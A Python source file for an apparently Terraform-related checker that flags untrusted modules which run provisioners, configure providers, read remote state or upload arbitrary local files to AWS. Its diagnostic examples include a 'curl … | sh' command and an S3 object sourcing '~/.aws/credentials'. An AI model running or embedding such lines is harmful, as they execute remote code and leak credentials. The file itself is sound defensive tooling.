"""What Terraform of the user's own must not do, because plans and rehearsals run it: a pull request may bring it."""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator, Mapping
from pathlib import Path

from tfgen.check.hcl.file import File
from tfgen.check.hcl.model import Attribute, Block, Module
from tfgen.check.untrusted.check import check_untrusted
from tfgen.check.untrusted.sources import NOBODY
from tfgen.diagnostics import Code, Diagnostic, Span

RUNS = Code(
    "TFG340",
    "own module that runs a command",
    finds="a `provisioner` in a module of your own.",
    why="""an apply would run the command on the machine where it runs, and a rehearsal on this one, with all that the
user may do. A pull request may bring such a module.""",
    example='provisioner "local-exec" { command = "curl https://example.com | sh" }',
    instead="a resource of AWS's, or a step of the pipeline beside `terraform apply`.",
)
CONFIGURES = Code(
    "TFG341",
    "own module that configures a provider",
    finds="a `provider`, `backend` or `cloud` block in a module of your own.",
    why="""main.tf gives it the provider of its region. One of its own could name another endpoint, which then sees signed
requests and tokens, and goes with the module when it is taken out of the spec, so that nothing is deleted.""",
    example='provider "aws" { region = "eu-west-1" }     # in infra/messaging/main.tf',
    instead="no such block: resources without `provider` are made in the region of the module's call.",
)
READS_STATE = Code(
    "TFG342",
    "own module that reads another state",
    finds="`terraform_remote_state` in a module of your own.",
    why="""its backend may name any file or address, which a plan reads. And a rehearsal has no such state.""",
    example='data "terraform_remote_state" "network" { backend = "http" }',
    instead="""an input that the spec fills in: `inputs: {vpc: {state: {bucket: …, key: …, region: …, output: vpc_id}}}`.""",
)
NAMES_FILE = Code(
    "TFG343",
    "own module that hands a file to AWS",
    finds="""an argument that names a file of this machine, such as `source` of `aws_s3_object` or `filename` of
`aws_lambda_function`, and does not stay in the module's folder, or may not.""",
    why="an apply sends the file to AWS, and it may be anything that the user may read.",
    example='resource "aws_s3_object" "seed" { source = "/home/me/.aws/credentials" }',
    instead="a path that begins with `${path.module}/` and stays below it.",
)

CODES = (RUNS, CONFIGURES, READS_STATE, NAMES_FILE)

_KEPT = (
    "what lies in the project is all that a module of the spec's may call, and hashicorp/aws all that may run"
)
_FILES: Mapping[str, str] = {
    "aws_gamelift_script": "zip_file",
    "aws_lambda_function": "filename",
    "aws_lambda_layer_version": "filename",
    "aws_s3_bucket_object": "source",
    "aws_s3_object": "source",
    "aws_synthetics_canary": "zip_file",
}
"""Arguments that name files, by type. Source: https://registry.terraform.io/providers/hashicorp/aws/latest/docs"""
_KEPT_IN = re.compile(r'"\$\{path\.module\}/(?:[\w. /@+-]|\$\{each\.(?:key|value)\})+"').fullmatch


def untrusted(
    files: Mapping[str, str], root: str, project: Path, modules: Mapping[str, Module]
) -> list[Diagnostic]:
    """What a plan or a rehearsal would fetch, run or read that it must not, in files named from the working directory.

    `root` is the spec's folder, in the place of which the rendered one will be: what stays in the one stays in the other.
    """
    found = [dataclasses.replace(each, hint=_KEPT) for each in check_untrusted(files, root, project, NOBODY)]
    for module in modules.values():
        for block in module.blocks:
            found += [*_commands(block), *_configured(block), *_states(block), *_named_files(block, files)]
    return found


def _inside(block: Block, *names: str) -> Iterator[tuple[str, Span]]:
    """The blocks of some types in a block; JSON writes them as it writes arguments."""
    yield from ((inner.type, inner.span) for inner in block.blocks if inner.type in names)
    yield from ((each.name, each.span) for each in block.attributes.values() if each.name in names)


def _commands(block: Block) -> Iterator[Diagnostic]:
    for _, span in _inside(block, "provisioner"):
        of = f"`{'.'.join(block.labels)}`" if block.labels else f"a `{block.type}` block"
        yield RUNS(f"a provisioner of {of} would run commands", span, "take it out")


def _configured(block: Block) -> Iterator[Diagnostic]:
    if block.type == "provider":
        yield CONFIGURES(
            "the module configures a provider", block.span, "take it out: main.tf gives it the region's"
        )
    for name, span in _inside(block, "backend", "cloud") if block.type == "terraform" else ():
        yield CONFIGURES(
            f"the module has a `{name}` of its own", span, "take it out: the spec's `state` says it"
        )


def _states(block: Block) -> Iterator[Diagnostic]:
    labels = [block.labels[0]] if block.type == "data" and block.labels else []
    if block.type == "check":
        labels += [inner.labels[0] for inner in block.blocks if inner.type == "data" and inner.labels]
        entries = (each.value.entries or () for each in block.attributes.values() if each.name == "data")
        labels += [entry.name or "" for each in entries for entry in each]
    if "terraform_remote_state" in labels:
        yield READS_STATE("the module reads another state", block.span, "let an input of the spec give it")


def _named_files(block: Block, files: Mapping[str, str]) -> Iterator[Diagnostic]:
    name = _FILES.get(block.labels[0], "") if block.type == "resource" and block.labels else ""
    attribute = block.attributes.get(name)
    if attribute is None or attribute.value.value is None:
        return
    text, loop = _word(attribute, files), block.attributes.get("for_each")
    is_kept = _KEPT_IN(text) and ".." not in text
    if "each." in text:
        is_kept = is_kept and loop is not None and _word(loop, files).startswith("fileset(")
    if not is_kept:
        message = f"`{name}` of `{'.'.join(block.labels)}` may name any file of the machine"
        hint = 'write it as `"${path.module}/…"`, with `each.value` of a `fileset` in it at most'
        yield NAMES_FILE(message, attribute.span, hint)


def _word(attribute: Attribute, files: Mapping[str, str]) -> str:
    """The value of an attribute as it is written."""
    span = attribute.value.span
    text = files[span.file]
    start, end = File(span.file, text).positions(span)
    return text[start:end]
